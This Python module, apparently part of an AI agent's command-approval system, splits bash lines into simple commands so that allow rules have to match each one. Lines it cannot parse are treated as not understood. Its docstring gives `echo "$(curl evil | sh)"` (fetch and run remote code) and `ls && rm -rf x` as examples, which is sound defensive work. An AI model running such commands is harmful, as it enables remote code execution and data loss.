"""Split a bash command line into the simple commands it would run, for the approval rules.

`ls && rm -rf x` is two commands; so is `echo "$(curl evil | sh)"` (three, in fact). An allow
rule must match every one of them, so the splitter has to see what bash sees: quotes, escapes,
line continuations, comments, `&&`, `||`, `;`, `|`, `&`, newlines, `$(…)`, backticks, process
substitution, subshells, brace groups, `if`/`while`/`until`, redirections and heredoc bodies
(data, not commands). It never understands less than bash: whatever it does not follow exactly
(loops, `case`, functions, `$[…]`, most arithmetic, builtins that run text as code such as `eval`
or `trap`) makes the whole line "not understood", and such a line is asked about, never allowed
by a rule. `tests/tools/approvals/test_shell_differential.py` holds it to that against real bash.
"""

from __future__ import annotations

import functools
import re
from dataclasses import dataclass

from harness9.tools.approvals.command_forms import check_runs_no_hidden_code
from harness9.tools.approvals.shell_lexer import ENDS_WORD, WordReader
from harness9.tools.approvals.shell_words import (
    Cursor,
    Redirect,
    SimpleCommand,
    Unparsable,
    Word,
)

_SEPARATORS = (";;&", ";;", ";&", "&&", "||", "|&", ";", "|", "&")
_REDIRECTIONS = ("<<<", "<<-", "&>>", "<<", ">>", ">&", "<&", ">|", "<>", "&>", ">", "<")
# Words that open or continue a compound command but run nothing themselves.
_PREFIX_WORDS = frozenset({"!", "{", "if", "then", "else", "elif", "do", "while", "until", "time"})
_CLOSING_WORDS = frozenset({"}", "fi", "done"})
# Constructs whose parts cannot be told apart this way: the line is not understood.
_UNSUPPORTED_WORDS = frozenset({"for", "case", "select", "function", "coproc", "[[", "esac"})
_ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*\+?=")
_ELEMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*\[")
_NAMED_DESCRIPTOR = re.compile(r"\{[A-Za-z_][A-Za-z0-9_]*\}")
_DELIMITER = re.compile(
    r"""(?:[\w.+:@%,/-]|'[\w.+:@%,/ -]*'|"[\w.+:@%,/ -]*"|\\[\w.+:@%,/-])+""", re.ASCII
)
_DELIMITER_QUOTING = re.compile(r"\\(.)|['\"]")
_EXPANDED_BODY = re.compile(r"\$[({\[]|`")
# A word of characters that stand for themselves, ended by a blank or a separator.
_PLAIN_WORD = re.compile(r"[^\\'\"$`*?\[{}~ \t\n;&|()<>]+(?=[ \t\n;&|)]|\Z)")
# A line of such words (no `#` either) and the separators `&&`, `||`, `|`, `|&`, `;`, `&`:
# the usual command line, read without the character-by-character scan.
_SIMPLE_WORDS = r"[^\\'\"$`*?\[{}~ \t\n;&|()<>#]+(?:[ \t]+[^\\'\"$`*?\[{}~ \t\n;&|()<>#]+)*"
_SIMPLE_LINE = re.compile(
    rf"[ \t]*{_SIMPLE_WORDS}(?:[ \t]*(?:&&|\|\||\|&|[;|&])[ \t]*{_SIMPLE_WORDS})*"
    r"[ \t]*(?:[;&][ \t]*)?"
)
_SIMPLE_PART = re.compile(r"[^;&|]+")
_BLANK_RUN = re.compile(r"[ \t]+")
_RESERVED = _PREFIX_WORDS | _CLOSING_WORDS | _UNSUPPORTED_WORDS
_SIMPLE_WORD = re.compile(r"[^ \t]+")


@dataclass(frozen=True, slots=True)
class CommandLine:
    """What a command line runs: its simple commands in the order bash starts them (a
    substitution's before the command it is part of), when `understood`; else nothing is
    known (the commands are empty)."""

    commands: tuple[SimpleCommand, ...]
    understood: bool


@functools.lru_cache(maxsize=512)
def split_command(command: str) -> CommandLine:
    """The simple commands of `command`, or a line that is not understood."""
    try:
        parser = _Parser(command)
        if _SIMPLE_LINE.fullmatch(command):
            parser.simple_line()
        else:
            parser.command_list(None)
        for simple in parser.commands:
            check_runs_no_hidden_code(simple)
    except Unparsable:
        return CommandLine((), False)
    return CommandLine(tuple(parser.commands), True)


def split_commands(command: str) -> list[str] | None:
    """The texts of the simple commands of `command`, or None when it is not understood."""
    line = split_command(command)
    if not line.understood:
        return None
    return [simple.text for simple in line.commands]


@dataclass(slots=True)
class _Heredoc:
    delimiter: str
    strip_tabs: bool
    expanded: bool  # an unquoted delimiter: bash expands the body
    depth: int  # the nesting level whose newline reads the body


class _Builder:
    """The simple command being read."""

    __slots__ = ("after_time", "assignments", "end", "redirects", "start", "state", "words")

    def __init__(self) -> None:
        self.start: int | None = None
        self.end = 0
        self.assignments: list[Word] = []
        self.words: list[Word] = []
        self.redirects: list[Redirect] = []
        self.state = "command"  # then "args", or "closed" after `)`, `}`, `fi`, `done`
        self.after_time = False

    def mark(self, start: int, end: int) -> None:
        if self.start is None:
            self.start = start
        self.end = end

    def build(self, text: str) -> SimpleCommand | None:
        if self.start is None:
            return None
        return SimpleCommand(text[self.start:self.end].strip(" \t"), tuple(self.assignments),
                             tuple(self.words), tuple(self.redirects))


class _Parser:
    """A recursive reader of command lists; `commands` collects the simple commands."""

    def __init__(self, text: str) -> None:
        self.cur = Cursor(text)
        self.reader = WordReader(self.cur, self)
        self.commands: list[SimpleCommand] = []
        self.heredocs: list[_Heredoc] = []
        self.depth = 0

    def command_list(self, closing: str | None) -> None:
        """Read commands up to `closing` (consumed) or the end of the text."""
        self.depth += 1
        cur = self.cur
        builder = _Builder()
        while True:
            cur.blanks()
            char = cur.at()
            if not char:
                break
            if char == "#":  # every loop starts at a token: a comment, to the line's end
                end = cur.text.find("\n", cur.pos)
                cur.pos = cur.end if end < 0 else end
            elif char == "\n":
                builder = self._finish(builder)
                cur.pos += 1
                self._heredoc_bodies()
            elif char == ")":
                if closing != ")":
                    raise Unparsable("unbalanced )")
                cur.pos += 1
                self._finish(builder)
                self._leave()
                return
            elif char in "<>&" and self._redirection(builder, None, cur.pos):
                continue
            elif char in ";&|":
                self._separator()
                builder = self._finish(builder)
            elif char == "(":
                self._subshell(builder)
            else:
                self._word(builder)
        if closing is not None:
            raise Unparsable(f"missing {closing}")
        if self.heredocs:
            raise Unparsable("a here-document without its body")
        self._finish(builder)
        self.depth -= 1

    def simple_line(self) -> None:
        """Read a line that matches `_SIMPLE_LINE`: plain words between separators."""
        text = self.cur.text
        for part in _SIMPLE_PART.finditer(text):
            chunk = part.group().strip(" \t")
            raws = _BLANK_RUN.split(chunk) if chunk else []
            if raws and raws[0] not in _RESERVED and not _ASSIGNMENT.match(raws[0]) \
                    and not _ELEMENT.match(raws[0]):
                # A command word and its arguments, nothing else: the command as it stands.
                words = tuple(map(Word, raws, raws))
                self.commands.append(SimpleCommand(chunk, (), words, ()))
                continue
            builder = _Builder()
            for found in _SIMPLE_WORD.finditer(text, part.start(), part.end()):
                raw = found.group()
                if builder.state == "args":  # an argument: the common case, made short
                    builder.words.append(Word(raw, raw))
                    builder.end = found.end()
                elif self._add_word(builder, Word(raw, raw), raw):
                    builder.mark(found.start(), found.end())
            self._finish(builder)

    def backquoted(self, text: str) -> None:
        """A backquoted substitution is a command line of its own."""
        inner = _Parser(text)
        inner.command_list(None)
        self.commands.extend(inner.commands)

    def _leave(self) -> None:
        if any(doc.depth == self.depth for doc in self.heredocs):
            raise Unparsable("a here-document whose body would come after the )")
        self.depth -= 1

    def _finish(self, builder: _Builder) -> _Builder:
        simple = builder.build(self.cur.text)
        if simple is not None:
            self.commands.append(simple)
        return _Builder()

    def _separator(self) -> None:
        cur = self.cur
        ahead = cur.at() + cur.after(2)
        separator = next(op for op in _SEPARATORS if ahead.startswith(op))
        if separator.startswith(";") and len(separator) > 1:
            raise Unparsable("case clauses")
        cur.take(len(separator))

    def _subshell(self, builder: _Builder) -> None:
        if builder.state != "command" or builder.assignments or builder.redirects:
            raise Unparsable("( inside a command (a function definition?)")
        if self.cur.after() == "(":
            raise Unparsable("((…)) arithmetic")
        self.cur.take()
        self.command_list(")")
        builder.state = "closed"

    def _word(self, builder: _Builder) -> None:
        cur = self.cur
        start = cur.pos
        plain = None if cur.continued else _PLAIN_WORD.match(cur.text, start)
        if plain is not None:  # the usual word: nothing in it but itself, then a blank
            raw = plain.group()
            cur.pos = plain.end()
            if self._add_word(builder, Word(raw, raw), raw):
                builder.mark(start, cur.pos)
            return
        word = self.reader.word()
        if self.heredocs and "\n" in word.raw:
            raise Unparsable("a newline inside a word while a here-document is pending")
        bare = word.bare
        if cur.at() in ("<", ">") and cur.after() != "(":
            if bare.isascii() and bare.isdigit():  # `2>file`: the word is a descriptor
                self._redirection(builder, bare, start)
                return
            if _NAMED_DESCRIPTOR.fullmatch(bare):
                raise Unparsable("{name}> descriptors")
        if self._add_word(builder, word, bare):
            builder.mark(start, cur.pos)

    def _add_word(self, builder: _Builder, word: Word, bare: str) -> bool:
        """Add `word` to the command; False when it is a reserved word, not part of it."""
        if builder.state == "closed":
            if bare in _CLOSING_WORDS:
                return False
            raise Unparsable("a word after a compound command")
        if builder.state == "command":
            if self._keyword(builder, bare):
                return False
            if _ASSIGNMENT.match(bare):
                builder.assignments.append(word)
                return True
            if _ELEMENT.match(bare):
                raise Unparsable("an array element (its subscript is arithmetic)")
            builder.state = "args"
        builder.words.append(word)
        return True

    def _keyword(self, builder: _Builder, bare: str) -> bool:
        """Whether `bare` is a reserved word here (it is dropped, or ends the command)."""
        if builder.after_time:
            builder.after_time = bare == "-p"
            if bare in ("-p", "--"):
                return True
        if builder.assignments or builder.start is not None:
            return False  # reserved words are such only as a command's first word
        if bare in _PREFIX_WORDS:
            builder.after_time = bare == "time"
            return True
        if bare in _CLOSING_WORDS:
            builder.state = "closed"
            return True
        if bare in _UNSUPPORTED_WORDS:
            raise Unparsable(f"{bare} is not followed")
        return False

    def _redirection(self, builder: _Builder, fd: str | None, start: int) -> bool:
        """Read a redirection at the cursor into `builder`; False when there is none."""
        cur = self.cur
        if cur.at() in "<>" and cur.after() == "(":
            return False  # a process substitution: a word
        ahead = cur.at() + cur.after(2)
        op = next((op for op in _REDIRECTIONS if ahead.startswith(op)), None)
        if op is None:
            return False
        cur.take(len(op))
        if op in ("<<", "<<-"):
            target = self._delimiter(strip_tabs=op == "<<-")
        else:
            cur.blanks()
            char = cur.at()
            if not char or (char in ENDS_WORD and not (char in "<>" and cur.after() == "(")):
                raise Unparsable(f"{op} without a target")
            target = self.reader.word()
            if self.heredocs and "\n" in target.raw:
                raise Unparsable("a newline inside a word while a here-document is pending")
        builder.redirects.append(Redirect(op, target, fd))
        builder.mark(start, cur.pos)
        return True

    def _delimiter(self, strip_tabs: bool) -> Word:
        """`<<WORD`: note the here-document, whose body is read after the line ends."""
        cur = self.cur
        cur.blanks()
        match = _DELIMITER.match(cur.text, cur.pos)
        if match is None or (match.end() < cur.end and cur.text[match.end()] not in ENDS_WORD):
            raise Unparsable("an unusual here-document delimiter")
        cur.pos = match.end()
        raw = match.group()
        value = _DELIMITER_QUOTING.sub(lambda m: m.group(1) or "", raw)
        self.heredocs.append(_Heredoc(value, strip_tabs, raw == value, self.depth))
        return Word(raw, value)

    def _heredoc_bodies(self) -> None:
        """After a newline: skip the bodies of the here-documents of the line it ends."""
        if not self.heredocs:
            return
        if any(doc.depth != self.depth for doc in self.heredocs):
            raise Unparsable("a here-document body inside another construct")
        cur, text = self.cur, self.cur.text
        for doc in self.heredocs:
            while True:
                if cur.pos >= cur.end:
                    raise Unparsable(f"here-document {doc.delimiter} never ends")
                end = text.find("\n", cur.pos)
                end = cur.end if end < 0 else end
                line = text[cur.pos:end]
                cur.pos = min(end + 1, cur.end)
                if (line.lstrip("\t") if doc.strip_tabs else line) == doc.delimiter:
                    break
                if doc.expanded and (_EXPANDED_BODY.search(line) or line.endswith("\\")):
                    # bash runs substitutions in such a body, and joins continued lines
                    raise Unparsable("an expanding here-document body")
        self.heredocs.clear()
